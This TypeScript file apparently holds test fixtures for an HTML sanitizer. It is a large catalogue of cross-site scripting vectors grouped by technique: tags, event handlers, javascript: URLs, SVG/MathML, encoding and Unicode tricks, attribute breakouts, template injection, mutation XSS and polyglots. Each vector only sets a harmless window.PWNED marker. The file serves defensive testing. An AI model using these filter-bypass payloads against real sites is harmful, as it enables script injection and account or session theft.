/**
 * What is tried to make a text more than a text: by classes, each written out or made of its parts. `PWNED` stands where a script would
 * say that it ran. Nothing here does harm: all it would do is to set a member of the page's window.
 */

/** What a vector runs if it runs. */
const RUN = "window.PWNED=1";

/** Elements that run or load something by themselves. */
const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type="module">${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script/x>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  `<link rel="import" href="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>opener.${RUN}</script>">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button form="f" formaction="javascript:${RUN}">go</button>`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<applet code="${RUN}"></applet>`,
  `<bgsound src="javascript:${RUN}">`,
  `<layer src="javascript:${RUN}"></layer>`,
  `<xml id="x"><i><b>&lt;img src=x onerror=${RUN}&gt;</b></i></xml>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<marquee-board src="javascript:${RUN}"></marquee-board>`,
  `<x-y onclick="${RUN}">z</x-y>`,
];

/** Handlers of elements, one pair after the other. */
const HANDLERS = [
  "onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerenter", "onpointermove", "onwheel",
  "onanimationstart", "onanimationend", "ontransitionend", "onbeforetoggle", "ontoggle", "oncut", "onpaste", "oncopy", "ondragstart",
  "oninput", "onchange", "onsubmit", "onreset", "oninvalid", "onkeydown", "onscroll", "onscrollend", "onresize", "onhashchange",
  "onpopstate", "onmessage", "onstorage", "onunload", "onbeforeunload", "onafterprint", "oncontextmenu", "onauxclick", "ongotpointercapture",
  "onloadstart", "oncanplay", "onplay", "ontimeupdate", "onslotchange", "onsecuritypolicyviolation", "onfinish", "onstart", "onbounce",
].map((handler) => `<img src=x tabindex=1 autofocus style="animation:a 1s" ${handler}="${RUN}">`);

/** The same handler, on elements and in spellings that a filter may not know. */
const ELEMENTS = [
  `<body onload=${RUN}>`, `<svg onload=${RUN}>`, `<video src=x onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}></select>`, `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<keygen autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`, `<marquee onstart=${RUN}>x</marquee>`,
  `<img/src=x/onerror=${RUN}>`, `<img\tsrc=x\tonerror=${RUN}>`, `<img\nsrc=x\nonerror=${RUN}>`, `<img\fsrc=x\fonerror=${RUN}>`,
  `<img src=x onerror = "${RUN}">`, `<img src=x onerror='${RUN}'>`, `<img src=x onerror=\`${RUN}\`>`, `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src="x" "" onerror="${RUN}">`, `<img src=x onerror="${RUN}"//`, `<img src=x onerror=${RUN} <b>`, `<<img src=x onerror=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`, `<picture><img srcset="x" onerror="${RUN}"></picture>`, `<image src=x onerror=${RUN}>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`, `<div popover onbeforetoggle=${RUN}>x</div>`,
  `<style onload=${RUN}></style>`, `<link rel=stylesheet href=data:text/css, onload=${RUN}>`, `<object data=x onerror=${RUN}></object>`,
];

/** Addresses that run, as a link and as one in a text. */
export const URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `&#106;avascript:${RUN}`, `javascript://example.com/%0a${RUN}`, `javascript:/*https://*/${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`, `livescript:${RUN}`, `blob:https://example.com/${RUN}`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`,
  `filesystem:http://example.com/x`, `file:///etc/passwd`, `//example.com`, `\\\\example.com`, `https:javascript:${RUN}`, `http://example.com`,
  `https://user:password@example.com"onclick="${RUN}`, `https://example.com/" onmouseover="${RUN}`, `https://example.com/'><img src=x onerror=${RUN}>`,
];

const IN_TEXT = URLS.map((url) => `<a href="${url}">x</a>`);

const SVG = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`, `<svg><image href=x onerror=${RUN} /></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`, `<svg><discard onbegin=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`, `<svg/onload=${RUN}>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `<svg><title><img src=x onerror=${RUN}></title></svg>`,
];

const MATHML = [
  `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${RUN}</script></annotation-xml></semantics></math>`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `&#x0000003c;img src=x onerror=${RUN}>`,
  `<img src=x onerror="&#119;indow.PWNED=1">`, `<img src=x onerror="&#x77;indow.PWNED&equals;1">`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&ltimg src=x onerror=${RUN}&gt`, `<a href="&#1;javascript:${RUN}">x</a>`, `<a href="javascript&NewLine;:${RUN}">x</a>`, `<a href="java&Tab;script:${RUN}">x</a>`,
];

const COMMENTS = [
  `<!--<img src=x onerror=${RUN}>-->`, `<!--><img src=x onerror=${RUN}>-->`, `<!---><img src=x onerror=${RUN}>`, `<!-- --!><img src=x onerror=${RUN}>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`, `<?xml version="1.0"?><script>${RUN}</script>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`, `</ script><img src=x onerror=${RUN}>`, `<?php echo '<script>${RUN}</script>'; ?>`, `<% ${RUN} %>`, `<!x><img src=x onerror=${RUN}>`,
];

/** What leaves an attribute, an element or a script in which it stands. */
const BREAKS = [
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `\` onmouseover=\`${RUN}`,
  `" autofocus onfocus="${RUN}`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `</noscript><img src=x onerror=${RUN}>`, `</template><img src=x onerror=${RUN}>`, `</div></div></div><img src=x onerror=${RUN}>`,
  `";${RUN};//`, `';${RUN};//`, `\\";${RUN};//`, `\${${RUN}}`, `*/${RUN}/*`, `\u2028${RUN}`, `\u2029${RUN}`, `]]>${RUN}`, `x;background:url(javascript:${RUN})`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`, `{{${RUN}}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `[[${RUN}]]`, `{%raw%}${RUN}{%endraw%}`,
  `<template><script>${RUN}</script></template>`, `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`, `<slot onslotchange=${RUN}></slot>`,
  `<div ng-app ng-csp><p ng-focus="$event.view.PWNED=1" tabindex=1 autofocus>`, `<div v-html="'<img src=x onerror=${RUN}>'"></div>`, `<div x-data x-init="${RUN}"></div>`,
];

const CSS = [
  `<style>@import "javascript:${RUN}";</style>`, `<style>*{background:url("javascript:${RUN}")}</style>`, `<div style="width:expression(${RUN})">x</div>`,
  `<div style="background:url(javascript:${RUN})">x</div>`, `<div style="-moz-binding:url(//example.com/x.xml#x)">x</div>`, `<div style="behavior:url(x.htc)">x</div>`,
  `<style>@keyframes a{}</style><b style="animation:a" onanimationstart=${RUN}>x</b>`, `<div style="position:fixed;inset:0;z-index:99999;background:red">over it all</div>`,
  `<style>:host{display:none}marquee-board{display:none}</style>`, `<link rel=stylesheet href="//example.com/x.css">`,
];

const UNICODE = [
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `\u202e<script>${RUN}</script>`, `<\u200bscript>${RUN}</script>`, `<scr\u200cipt>${RUN}</scr\u200cipt>`,
  `\ufeff<img src=x onerror=${RUN}>`, `<ımg src=x onerror=${RUN}>`, `<ſcript>${RUN}</ſcript>`, `<img src=x on\u00aderror=${RUN}>`, `\u0130<img src=x onerror=${RUN}>`,
  `‹img src=x onerror=${RUN}›`, `<img\u00a0src=x\u00a0onerror=${RUN}>`, `<img src=x oner\u0000ror=${RUN}>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\ud83d<img src=x onerror=${RUN}>`,
];

/** Markup that changes its meaning when it is read a second time. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<xmp><img alt="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`, `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`, `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><a href="</title><img src=x onerror=${RUN}>">`, `<table><td><img src=x onerror=${RUN}></table>`, `<select><template><img src=x onerror=${RUN}></template></select>`,
];

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `"'>--></script><img src=x onerror=${RUN}>{{7*7}}\${7*7}<svg onload=${RUN}>`, `'"--></style></script><svg onload=${RUN}>`, `\`"'><img src=x:x onerror=${RUN}>`,
  `<a href="javascript:${RUN}" onclick=${RUN} style="x:expression(${RUN})">'"><svg/onload=${RUN}></a>`, `<!--"><svg onload=${RUN}>--><script>${RUN}</script>`,
];

/** All of them, each once. */
export const VECTORS: readonly string[] = [
  ...new Set([
    ...TAGS, ...HANDLERS, ...ELEMENTS, ...IN_TEXT, ...SVG, ...MATHML, ...ENTITIES, ...COMMENTS, ...BREAKS, ...TEMPLATES, ...CSS, ...UNICODE,
    ...MUTATIONS, ...POLYGLOTS,
  ]),
];
